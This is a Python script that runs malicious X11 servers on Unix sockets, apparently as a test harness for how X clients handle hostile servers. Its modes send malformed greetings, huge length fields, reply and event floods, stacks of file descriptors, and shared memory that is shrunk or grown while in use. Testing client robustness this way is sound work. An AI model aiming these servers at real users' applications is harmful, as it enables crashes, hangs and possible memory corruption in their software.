"""X servers that attack their clients. They follow the protocol up to the attack that they are named after.

    evil-x.py <folder> <mode>...      listens on <folder>/<mode> for each of them; prints a line when it does
    evil-x.py --at <socket> <mode>    the same on one path
"""

import os
import socket
import struct
import sys
import tempfile
import threading
import time

GREEDY = 0xFFFFFFFF
# Shared memory of one connection, by mode: another connection fills it.
shared = {}
OPCODES = {b"BIG-REQUESTS": 133, b"XTEST": 132, b"XFIXES": 138, b"MIT-SHM": 130, b"DAMAGE": 143}


def greeting(width=640, height=480, mask=0x1FFFFF, first=8, last=255, screens=1, formats=1, visuals=1, same=False):
    vendor = b"evil"
    body = struct.pack("<IIIIHHBBBBBBBBI", 1, 0x200000, mask, 256, len(vendor), 65535, screens, formats, 0, 0, 32, 32,
                       first, last, 0)
    body += vendor
    body += b"".join(struct.pack("<BBB5x", 24 if same else i + 1, 32, 32) for i in range(formats))
    body += struct.pack("<IIIIIHHHHHHIBBBB", 0x100, 0x20, 0, 0, 0, width, height, 1, 1, 1, 1, 0x21, 0, 0, 24, 1)
    body += struct.pack("<BxH4x", 24, visuals)
    body += b"".join(struct.pack("<IBBHIIII", 0x21 if same else 0x21 + i, 4, 8, 256, 0, 0, 0, 0) for i in range(visuals))
    return struct.pack("<BBHHH", 1, 0, 11, 0, len(body) // 4) + body


class Client:
    def __init__(self, connection, mode):
        self.socket, self.mode = connection, mode
        self.sequence = self.atoms = 0
        self.fds, self.pending = [], b""
        self.damage = 0

    def read(self, count):
        while len(self.pending) < count:
            data, fds, _, _ = socket.recv_fds(self.socket, 65536, 4)
            self.fds += fds
            if not data:
                raise EOFError
            self.pending += data
        taken, self.pending = self.pending[:count], self.pending[count:]
        return taken

    def send(self, data):
        if self.mode == "descriptors" and self.sequence > 0:
            with tempfile.TemporaryFile() as file:
                socket.send_fds(self.socket, [data], [file.fileno()])
        else:
            self.socket.sendall(data)

    def reply(self, detail=0, head=b"", more=b"", units=None, sequence=None):
        length = len(more) // 4 if units is None else units
        number = self.sequence if sequence is None else sequence
        data = struct.pack("<BBHI", 1, detail, number & 0xFFFF, length) + head.ljust(24, b"\0") + more
        if self.mode == "single-bytes" and len(more) > 0:
            for i in range(len(data)):
                self.socket.sendall(data[i:i + 1])
        else:
            self.send(data)

    def error(self):
        self.send(struct.pack("<BBHIHB21x", 0, 8, self.sequence & 0xFFFF, 0, 0, 0))

    def event(self, kind, rest=b""):
        return struct.pack("<BBH", kind, 0, self.sequence & 0xFFFF) + rest.ljust(28, b"\0")

    def flood(self, data):
        block = data * (65536 // len(data))
        while True:
            self.socket.sendall(block)

    # Runs in place of the greeting.
    def greet(self):
        mode = self.mode
        if mode == "silent":
            time.sleep(3600)
        if mode == "hangs-up":
            raise EOFError
        self.read(12)
        odd = {
            "refuses": struct.pack("<BBHHH", 0, 8, 11, 0, 2) + b"go away!",
            "wants-more": struct.pack("<BBHHH", 2, 0, 11, 0, 2) + b"password",
            "no-numbers": greeting(mask=0),
            "huge-screen": greeting(65535, 65535),
            "no-screen": greeting(0, 0),
            "many-screens": greeting(screens=255),
            "no-keys": greeting(first=255, last=8),
            "same-formats": greeting(formats=200, same=True),
            "same-visuals": greeting(visuals=2000, same=True),
        }
        if mode in odd:
            self.socket.sendall(odd[mode])
        elif mode == "long-greeting":
            self.socket.sendall(struct.pack("<BBHHH", 1, 0, 11, 0, 0xFFFF))
            self.flood(b"\0")
        elif mode == "cut-greeting":
            self.socket.sendall(greeting()[:6] + struct.pack("<H", 20) + greeting(formats=255)[8:88])
        elif mode == "drips":
            for byte in greeting():
                self.socket.sendall(bytes([byte]))
                time.sleep(1)
        elif mode == "descriptor":
            with tempfile.TemporaryFile() as file:
                socket.send_fds(self.socket, [greeting()], [file.fileno()])
        elif mode == "many-descriptors":
            with tempfile.TemporaryFile() as file:
                socket.send_fds(self.socket, [greeting()], [file.fileno()] * 200)
        else:
            self.socket.sendall(greeting())

    def serve(self):
        self.greet()
        while True:
            opcode, detail, units = struct.unpack("<BBH", self.read(4))
            body = self.read(units * 4 - 4)
            self.sequence += 1
            if self.attack(opcode, detail, body):
                continue
            self.answer(opcode, detail, body)

    def attack(self, opcode, detail, body):
        """True if the request has been answered."""
        mode = self.mode
        if mode == "never-answers":
            return True
        if mode == "never-reads":
            for _ in range(10_000):
                self.socket.sendall(self.event(143, struct.pack("<II", 0x100, 0x200001)) * 100)
            time.sleep(3600)
        if mode == "refuses-everything":
            self.error()
            return True
        if mode == "long-reply":
            self.socket.sendall(struct.pack("<BBHI", 1, 0, self.sequence, GREEDY))
            self.flood(b"\0")
        if mode == "unasked-replies":
            self.flood(struct.pack("<BBHI24x", 1, 0, 4711, 0))
        if mode == "same-reply-again":
            self.flood(struct.pack("<BBHI24x", 1, 0, self.sequence, 0))
        if mode == "events":
            self.flood(self.event(22))
        if mode == "damage" and self.damage:
            self.flood(self.event(91, struct.pack("<II", 0x100, self.damage)))
        if mode == "long-event":
            self.socket.sendall(struct.pack("<BBHI", 35, 0, self.sequence, GREEDY))
            self.flood(b"\0")
        if mode == "errors":
            self.flood(struct.pack("<BBHIHB21x", 0, 8, self.sequence, 0, 0, 0))
        if mode == "no-keysyms" and opcode == 101:
            self.reply(detail=0, more=b"\0" * 4096)
            return True
        if mode == "short-list" and opcode == 21:
            self.reply(head=struct.pack("<H", 65535))
            return True
        if mode == "many-properties" and opcode == 21:
            self.reply(head=struct.pack("<H", 65535), more=b"".join(struct.pack("<I", 1000 + i) for i in range(65535)))
            return True
        if mode == "many-windows" and opcode == 15:
            self.reply(head=struct.pack("<IIH", 1, 0, 65535), more=struct.pack("<I", 7) * 65535)
            return True
        if mode == "single-bytes" and opcode == 15:
            self.reply(head=struct.pack("<IIH", 1, 0, 60000), more=struct.pack("<I", 7) * 60000)
            return True
        if opcode == 138 and detail == 4:
            if mode == "false-pointer":
                self.reply(head=struct.pack("<hhHHHHI", 0, 0, 65535, 65535, 0, 0, 1), more=b"\xff" * 64)
                return True
            if mode == "long-pointer":
                self.reply(units=GREEDY // 8, head=struct.pack("<hhHHHHI", 0, 0, 65535, 65535, 0, 0, 1))
                self.flood(b"\0")
        if mode == "hangs-up-later" and opcode == 130 and detail == 4:
            raise EOFError
        if mode == "shrinks-memory" and opcode == 130 and detail == 4:
            os.ftruncate(shared[mode], 100)
        if mode == "grows-memory" and opcode == 130 and detail == 4:
            os.ftruncate(shared[mode], 1 << 40)
        if mode == "fills-memory" and opcode == 130 and detail == 4:
            try:
                while os.write(shared[mode], b"x" * 65536) > 0 and os.lseek(shared[mode], 0, 1) < 1 << 26:
                    pass
            except OSError:
                pass
        return False

    def answer(self, opcode, detail, body):
        if opcode == 98:
            length = struct.unpack("<H", body[:2])[0]
            number = OPCODES.get(body[4:4 + length], 0)
            self.reply(head=struct.pack("<BBBB", number > 0, number, 91 if number == 143 else 100, 150))
        elif opcode == 16:
            self.atoms += 1
            self.reply(head=struct.pack("<I", 500 + self.atoms))
        elif opcode == 17:
            name = b"ATOM"
            self.reply(head=struct.pack("<H", len(name)), more=name)
        elif opcode == 101:
            count = body[1]
            keys = [(0x61 + i % 26, 0x41 + i % 26) if i < 60 else (0, 0) for i in range(count)]
            self.reply(detail=2, more=b"".join(struct.pack("<II", *key) for key in keys))
        elif opcode == 119:
            self.reply(detail=1, more=b"\0" * 8)
        elif opcode == 44:
            self.reply(more=b"\0" * 8)
        elif opcode == 133:
            self.reply(head=struct.pack("<I", 65535))
        elif opcode in (15, 20, 21, 38, 43):
            self.reply(head=struct.pack("<I", 0x100) if opcode == 15 else b"")
        elif opcode == 138 and detail == 0:
            self.reply(head=struct.pack("<II", 5, 0))
        elif opcode == 138 and detail == 4:
            self.reply(head=struct.pack("<hhHHHHI", 0, 0, 1, 1, 0, 0, 1), more=b"\xff" * 4)
        elif opcode == 130 and detail == 0:
            self.reply(head=struct.pack("<HHHHB", 1, 2, 0, 0, 2))
        elif opcode == 130 and detail == 6:
            shared[self.mode] = self.fds.pop()
        elif opcode == 130 and detail == 4:
            self.reply(detail=24, head=struct.pack("<II", 0x21, 0))
        elif opcode == 143 and detail == 0:
            self.reply(head=struct.pack("<II", 1, 1))
        elif opcode == 143 and detail == 1:
            self.damage = struct.unpack("<I", body[:4])[0]


def accepted(connection, mode):
    try:
        Client(connection, mode).serve()
    except (OSError, EOFError, struct.error):
        pass
    finally:
        connection.close()


def bound(path):
    server = socket.socket(socket.AF_UNIX)
    if os.path.exists(path):
        os.unlink(path)
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen(64)
    return server


def listen(server, mode):
    while True:
        connection, _ = server.accept()
        threading.Thread(target=accepted, args=(connection, mode), daemon=True).start()


if sys.argv[1] == "--at":
    pairs = [(sys.argv[2], sys.argv[3])]
else:
    pairs = [(os.path.join(sys.argv[1], mode), mode) for mode in sys.argv[2:]]
for path, mode in pairs:
    threading.Thread(target=listen, args=(bound(path), mode), daemon=True).start()
print("listening", flush=True)
while True:
    time.sleep(3600)
